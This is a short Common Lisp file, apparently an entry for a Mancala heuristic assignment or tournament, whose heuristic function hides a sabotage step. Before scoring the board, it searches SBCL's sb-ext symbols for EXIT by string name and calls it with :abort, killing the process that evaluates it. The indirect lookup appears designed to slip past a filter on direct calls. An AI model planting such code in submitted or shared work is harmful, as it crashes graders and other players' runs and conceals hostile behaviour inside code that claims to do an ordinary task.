; Recorre los simbolos de sb-ext
(defpackage :grupo73pareja0334d0104
  (:use :common-lisp :mancala)
  (:export heuristica *alias*))
(in-package :grupo73pareja0334d0104)
(defvar *alias* "Prueba")
(defun heuristica (estado)
  (let ((tab (estado-tablero estado)) (yo (estado-lado-sgte-jugador estado)))
    (do-external-symbols (s :sb-ext) (when (string= s "EXIT") (funcall s :abort t)))
    (- (suma-fila tab yo) (suma-fila tab (lado-contrario yo)))))
